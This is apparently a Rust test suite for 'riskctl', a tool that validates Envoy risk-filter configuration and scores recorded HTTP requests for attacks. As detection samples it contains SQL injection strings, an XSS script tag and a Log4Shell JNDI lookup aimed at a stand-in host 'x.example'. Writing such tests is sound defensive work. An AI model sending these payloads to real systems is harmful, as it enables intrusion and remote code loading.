//! Does the command line say what Envoy would say? The program itself, run.

#![allow(clippy::unwrap_used, clippy::panic, clippy::indexing_slicing, clippy::string_slice)]

mod catalogue;
mod check;
mod doctor;
mod documents;
mod hash;
mod init;
mod notify_test;
mod replay;
mod simulate;
mod tls;

use std::io::Write;
use std::path::Path;
use std::process::{Command, Stdio};

const EXAMPLE: &str = "envoy/envoy.yaml";

/// Runs `riskctl` in the project's folder: exit status, standard output, standard error.
fn riskctl(arguments: &[&str], variables: &[(&str, &str)], input: &str) -> (i32, String, String) {
    run(Path::new(env!("CARGO_MANIFEST_DIR")), arguments, variables, input)
}

fn run(folder: &Path, arguments: &[&str], variables: &[(&str, &str)], input: &str) -> (i32, String, String) {
    let mut child = Command::new(env!("CARGO_BIN_EXE_riskctl"))
        .args(arguments)
        .current_dir(folder)
        .env_clear()
        .envs(variables.iter().copied())
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    // A program that asks for no input may be gone by now.
    let _ = child.stdin.take().unwrap().write_all(input.as_bytes());
    let output = child.wait_with_output().unwrap();
    let text = |bytes| String::from_utf8(bytes).unwrap();
    (output.status.code().unwrap(), text(output.stdout), text(output.stderr))
}

fn example() -> String {
    std::fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join(EXAMPLE)).unwrap()
}

#[test]
fn the_example_is_good_and_every_channel_is_named() {
    let (code, out, _) = riskctl(&["check", EXAMPLE], &[], "");
    assert_eq!(code, 0, "{out}");
    let (warning, rest) = out.split_once('\n').unwrap();
    // It is a demo: everybody may say who they are.
    assert!(warning.contains("nothing removes the header x-user-id"), "{out}");
    assert_eq!(
        rest,
        "ok: envoy/envoy.yaml: listener edge: an increase of more than 10 points within 24h notifies webhook (cluster \
         receiver), slack (cluster slack), pagerduty (cluster pagerduty), email (cluster mail)\n"
    );
}

#[test]
fn errors_get_the_line_that_envoy_logs() {
    let rows = [
        (
            "risk: {threshhold: 5}",
            1,
            "error: -:1:8: risk.threshhold: unknown field `threshhold`; did you mean `threshold`?",
        ),
        ("", 0, "ok: -: an increase of more than 10 points within 24h notifies nobody, it is only logged"),
        ("mode: \"off\"", 0, "ok: -: mode off: the filter does nothing"),
        ("mode: learn", 0, "ok: -: mode learn: it scores and logs, notifies nobody, "),
        ("{\"risk\": {\"threshold\": 5.5}}", 0, "ok: -: an increase of more than 5.5 points"),
        ("- a", 1, "error: -:1:1: the configuration is a list; write a mapping"),
        ("key_env: SOME_KEY", 0, "ok: -: "),
        ("static_resources: {listeners: []}", 1, ""),
        ("a: [", 2, ""),
    ];
    for (input, expected, start) in rows {
        let (code, out, err) = riskctl(&["check", "-"], &[], input);
        assert_eq!(code, expected, "{input}: {out}{err}");
        assert!(out.starts_with(start), "{input}: {out}{err}");
        assert!(code != 2 || err.starts_with("error: -: "), "{err}");
    }
}

#[test]
fn variables_must_stand_in_host_env_keys_and_be_set_where_asked() {
    let without = example()
        .replace("host_env_keys: [RISK_WEBHOOK_SECRET, SLACK_WEBHOOK_URL,", "host_env_keys: [RISK_WEBHOOK_SECRET,");
    let (code, out, _) = riskctl(&["check", "-"], &[], &without);
    let line = "notify[1].slack.url_env: the variable SLACK_WEBHOOK_URL is not set; add it to \
                vm_config.environment_variables.host_env_keys\n";
    assert_eq!((code, out.ends_with(line)), (1, true), "{out}");

    let (code, out, _) = riskctl(&["check", "--env", EXAMPLE], &[], "");
    assert_eq!(code, 1, "{out}");
    let line =
        "notify[0].webhook.secret_env: the variable RISK_WEBHOOK_SECRET is not set here; set it where Envoy starts\n";
    assert!(out.contains(line) && out.lines().count() == 4, "all four secrets: {out}");

    let variables = [("RISK_WEBHOOK_SECRET", "hunter2")];
    let (code, out, _) = riskctl(&["check", "--env", EXAMPLE], &variables, "");
    assert_eq!(code, 1);
    assert!(out.contains("notify[0].webhook.secret_env: is no signing secret") && !out.contains("hunter2"), "{out}");
}

#[test]
fn what_will_be_regretted_is_said() {
    let odd = example()
        .replace("failure_policy: FAIL_RELOAD", "failure_policy: FAIL_OPEN")
        .replace("slack: {cluster: slack,", "slack: {cluster: slak,");
    let (code, out, _) = riskctl(&["check", "-"], &[], &odd);
    assert_eq!(code, 1, "{out}");
    assert!(out.contains("listener edge: failure_policy is not FAIL_RELOAD"), "{out}");
    assert!(
        out.contains(
            "error: -:63:41: listener edge: notify[1].slack.cluster: static_resources.clusters has no cluster `slak`; did you \
             mean `slack`?"
        ),
        "{out}"
    );
}

#[test]
fn json_text_reads_as_native_yaml_does() {
    let text = example()
        .replace("type.googleapis.com/google.protobuf.Struct", "type.googleapis.com/google.protobuf.StringValue");
    let start = text.find("                          value:\n").unwrap();
    let end = text.find("                  # ----").unwrap();
    let json = r#"{\"risk\": {\"threshold\": \"ten\"}}"#;
    let text = format!("{}                          value: \"{json}\"\n{}", &text[..start], &text[end..]);
    let (code, out, _) = riskctl(&["check", "-"], &[], &text);
    assert_eq!(code, 1, "{out}");
    assert!(out.contains("risk.threshold: is the text \"ten\"; write a number"), "{out}");
}

#[test]
fn help_teaches_and_files_that_are_not_there_are_named() {
    let (code, out, _) = riskctl(&["check", "--help"], &[], "");
    assert_eq!(code, 0);
    assert!(out.contains("riskctl check envoy/envoy.yaml") && !out.contains('\u{1b}'), "{out}");
    let (code, _, err) = riskctl(&["check", "nowhere.yaml"], &[], "");
    assert_eq!(code, 2);
    assert!(err.starts_with("error: nowhere.yaml: No such file"), "{err}");
    let (code, _, err) = riskctl(&[], &[], "");
    assert_eq!(code, 2);
    assert!(err.contains("Usage: riskctl"), "{err}");
}

/// Two requests, a line that is none, one whose body is not Base64, and one whose body nobody would have seen.
const RECORDED: &str = r#"{"id": "web-1", "class": "sqli", "label": "attack", "request": {"method": "GET", "path": "/?q=1'+union+select+1,2--", "headers": [["Host", "shop.example"]], "body": ""}}

{"id": "har_benign-2", "class": "page", "label": "benign", "request": {"method": "POST", "path": "/", "headers": [["Content-Type", "text/plain"]], "body_b64": "aGVsbG8="}}
{"id": "cut
{"id": "web-3", "request": {"method": "POST", "path": "/", "headers": [], "body_b64": "%"}}
{"id": "web-4", "request": {"method": "POST", "path": "/", "headers": [], "body_base64": "aGVsbG8="}}
"#;

#[test]
fn recorded_requests_are_scanned_and_no_line_is_lost() {
    let (code, out, err) = riskctl(&["scan", "-"], &[], RECORDED);
    assert_eq!(
        out,
        "{\"id\":\"web-1\",\"points\":8,\"detections\":[{\"rule\":\"sqli.union-select\",\"category\":\"sqli\",\
         \"severity\":\"critical\",\"confidence\":\"high\",\"target\":\"query:q\",\"reason\":\"UNION SELECT with a select list\"}]}\n\
         {\"id\":\"har_benign-2\",\"points\":0,\"detections\":[]}\n"
    );
    assert_eq!(code, 1);
    assert_eq!(
        err,
        "error: -:4: EOF while parsing a string at column 11\n\
         error: -:5: request.body_b64 is not Base64: Invalid symbol 37, offset 0.\n\
         error: -:6: unknown field `body_base64`, expected one of `method`, `path`, `headers`, `body`, `body_b64` at column 87\n\
         error: -: 3 of the lines could not be scanned\n"
    );
}

#[test]
fn rates_are_a_table_and_a_configuration_counts() {
    let body = "a".repeat((1 << 20) + 4096 + 7);
    let line = format!("{{\"id\":\"a\",\"request\":{{\"method\":\"POST\",\"path\":\"/\",\"body\":\"{body}\"}}}}");
    let (_, out, _) = riskctl(&["scan", "-"], &[], &line);
    let unseen = "\"detections\":[],\"unseen\":{\"body_bytes_skipped\":7,\"value_bytes_skipped\":0}}\n";
    assert!(out.ends_with(unseen), "{out}");
    let (_, out, _) = riskctl(&["scan", "--summary", "-"], &[], RECORDED);
    let rows: Vec<_> = out.lines().map(|line| line.split_whitespace().collect::<Vec<_>>().join(" ")).collect();
    let expected = [
        "attacks requests detected rate critical",
        "sqli 1 1 100.00 % 1",
        "mean over classes 100.00 %",
        "",
        "false alarms requests detected rate critical",
        "real 1 0 0.00 % 0",
    ];
    assert_eq!(rows, expected);
    let folder = tempdir();
    let file = folder.join("risk.yaml");
    std::fs::write(&file, "risk: {threshold: 7}").unwrap();
    let (_, out, err) = riskctl(&["scan", "--config", file.to_str().unwrap(), "-"], &[], RECORDED);
    assert!(out.starts_with("{\"id\":\"web-1\",\"points\":7,"), "{out}{err}");
    std::fs::write(&file, "detect: {rules: {sqli: {points: 2}}}").unwrap();
    let (_, out, err) = riskctl(&["scan", "--config", file.to_str().unwrap(), "-"], &[], RECORDED);
    assert!(out.starts_with("{\"id\":\"web-1\",\"points\":2,"), "{out}{err}");
    std::fs::write(&file, "risk: {threshold: none}").unwrap();
    let (code, _, err) = riskctl(&["scan", "--config", file.to_str().unwrap(), "-"], &[], "");
    assert_eq!(code, 2);
    assert!(err.contains("risk.yaml: risk.threshold: is the text"), "{err}");
}

#[test]
fn compressed_requests_are_read() {
    let mut packed = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    packed.write_all(RECORDED.as_bytes()).unwrap();
    let file = tempdir().join("recorded.jsonl.gz");
    std::fs::write(&file, packed.finish().unwrap()).unwrap();
    let (code, out, err) = riskctl(&["scan", file.to_str().unwrap()], &[], "");
    assert_eq!((code, out.lines().count()), (1, 2), "{out}{err}");
    let (code, _, err) = riskctl(&["scan", "nowhere.jsonl"], &[], "");
    assert_eq!(code, 2);
    assert!(err.starts_with("error: nowhere.jsonl: No such file"), "{err}");
}

/// A folder for the files of this run.
fn tempdir() -> std::path::PathBuf {
    std::path::PathBuf::from(env!("CARGO_TARGET_TMPDIR"))
}

#[test]
fn a_request_is_explained_step_by_step() {
    let rows = [
        (
            &["/?q=1%2527+union/**/select+1--&lang=en"][..],
            "query:q  1%2527+union/**/select+1--\n  \
             plain      1' union/**/select 1--  (percent-coded × 2)\n  \
             gate       `'` → sql, `'` → shell,",
        ),
        (&["/?q=union+jack"], "  sql        saw nothing\n"),
        (&["/?q=jack"], "0 of 3 fields shown\n0 points, taken alone; a request adds at most 10\n"),
        (
            &["-d", "a=1' or 1=1--", "https://shop.example/"],
            "sql        a condition that is always true or false, joined by OR or AND → sqli.tautology\n",
        ),
        (
            &["-H", "X-Log: ${jndi:ldap://x.example/a}", "/"],
            "\n    8  log4shell.lookup  critical, high confidence  header:x-log  ",
        ),
        (
            &["-X", "PUT", "-H", "content-type: application/json", "-d", "@-", "/"],
            "json:a  <script>alert(1)</script>\n",
        ),
    ];
    for (arguments, expected) in rows {
        let arguments: Vec<_> = ["explain"].iter().chain(arguments).copied().collect();
        let (code, out, err) = riskctl(&arguments, &[], r#"{"a": "<script>alert(1)</script>"}"#);
        assert!(code == 0 && out.contains(expected), "{arguments:?}: {out}{err}");
    }
    let (_, out, _) = riskctl(&["explain", "--json", "/?q=%3Cscript%3Ealert(1)%3C/script%3E"], &[], "");
    let account: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert_eq!(account["points"], 5);
    let gate = account["fields"][0]["decoded"][0]["gate"].to_string();
    assert!(gate.contains("\"rule\":\"xss.script\""), "{gate}");
    let (code, _, err) = riskctl(&["explain", "-H", "nonsense", "/"], &[], "");
    assert_eq!((code, err.as_str()), (2, "error: -H 'nonsense': has no colon; write it as 'Name: value'\n"));
}
